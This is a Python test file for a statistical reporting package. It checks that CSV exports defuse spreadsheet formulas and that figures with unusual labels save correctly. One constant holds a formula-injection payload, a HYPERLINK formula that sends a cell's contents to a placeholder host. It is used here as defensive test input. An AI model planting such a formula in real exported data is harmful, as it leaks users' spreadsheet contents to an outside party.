"""What a report writes where labels of the user's would be formulas, or no names of files."""

import csv
from dataclasses import replace

from fake import fake_posterior, one_outcome

from bayesmodels.reporting import report
from bayesmodels.reporting.drawing import LazyFigures, new_panel

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"early")'


def cells_of(file):
    with file.open(encoding="utf-8", newline="") as text:
        return [cell for row in csv.reader(text) for cell in row]


def begins_formula(cell):
    try:
        float(cell)
    except ValueError:
        return cell[:1] in tuple("=+-@\t\r")
    return False


def relabelled(label):
    """A posterior whose early group and whose outcome bear a label."""
    tree = one_outcome(fake_posterior())
    for name in list(tree.children):
        group = tree[name].to_dataset()
        changes = {"start_group": [label, "delayed"], "contrast": [f"{label} - delayed"], "outcome": ["alsfrs_r"]}
        tree[name] = type(tree)(group.assign_coords({k: v for k, v in changes.items() if k in group.dims}))
    return tree


def test_no_cell_of_a_report_begins_a_formula(tmp_path):
    replace(report(relabelled(FORMULA)), sections=(), figures=LazyFigures({})).save(tmp_path)
    files = [*tmp_path.glob("*.csv"), *tmp_path.glob("tables/*.csv")]
    cells = [cell for file in files for cell in cells_of(file)]
    assert sum(FORMULA in cell for cell in cells) > 10
    assert not [cell for cell in cells if begins_formula(cell)]
    assert any(cell.startswith("positive favours") for cell in cells)


def test_figures_of_any_label_are_saved(tmp_path):
    made = report(one_outcome(fake_posterior()))
    figures = LazyFigures(dict.fromkeys(("curve_a/b_<60", "curve_A/B_<60"), lambda: new_panel()[0]))
    replace(made, sections=(), figures=figures).save(tmp_path)
    assert len(list((tmp_path / "figures").glob("*.svg"))) == 2
